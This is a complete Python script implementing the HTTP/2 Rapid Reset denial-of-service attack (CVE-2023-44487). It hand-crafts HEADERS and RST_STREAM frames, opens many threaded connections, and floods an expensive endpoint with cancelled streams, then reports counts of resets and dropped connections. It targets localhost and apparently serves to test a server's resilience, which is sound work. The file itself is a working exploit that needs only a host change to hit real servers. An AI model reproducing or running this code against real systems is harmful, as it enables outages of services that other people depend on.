#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487): opens streams and resets each at once, so that none counts as open.

    rapid_reset.py PORT SECONDS CONNECTIONS      prints what it got through

Frames are written by hand: no HTTP/2 library would send this.
"""

import signal
import socket
import struct
import sys
import threading

HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM_AND_HEADERS = 0x5
CANCEL = struct.pack(">I", 8)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# The most expensive read there is. HPACK: GET and http by their places in the static table, path and authority as text.
PATH, AUTHORITY = b"/v1/tasks?limit=500", b"localhost"
HEAD = b"\x82\x86\x04" + bytes([len(PATH)]) + PATH + b"\x01" + bytes([len(AUTHORITY)]) + AUTHORITY
STREAMS_A_WRITE = 100


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def resets(first):
    streams = range(first, first + 2 * STREAMS_A_WRITE, 2)
    return b"".join(
        frame(HEADERS, END_STREAM_AND_HEADERS, stream, HEAD) + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in streams
    )


# The same for every connection; a connection that took them all ends by itself.
WRITES = [resets(1 + 2 * STREAMS_A_WRITE * number) for number in range(1000)]


def attack(port, stop, counts):
    while not stop.is_set():
        counts["connections"] += 1
        with socket.create_connection(("127.0.0.1", port)) as peer:
            peer.settimeout(1)
            # Answers are thrown away by the kernel's buffer filling up: this client never reads.
            try:
                peer.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                for write in WRITES:
                    if stop.is_set():
                        return
                    peer.sendall(write)
                    counts["resets"] += STREAMS_A_WRITE
            except TimeoutError:
                counts["stalled"] += 1
            except OSError:
                counts["cut by the server"] += 1


def main():
    port, seconds, connections = (int(argument) for argument in sys.argv[1:4])
    stop = threading.Event()
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    counts = {"resets": 0, "connections": 0, "stalled": 0, "cut by the server": 0}
    threads = [threading.Thread(target=attack, args=(port, stop, counts)) for _ in range(connections)]
    for thread in threads:
        thread.start()
    stop.wait(seconds)
    stop.set()
    for thread in threads:
        thread.join()
    print(", ".join(f"{count} {name}" for name, count in counts.items()))


if __name__ == "__main__":
    main()
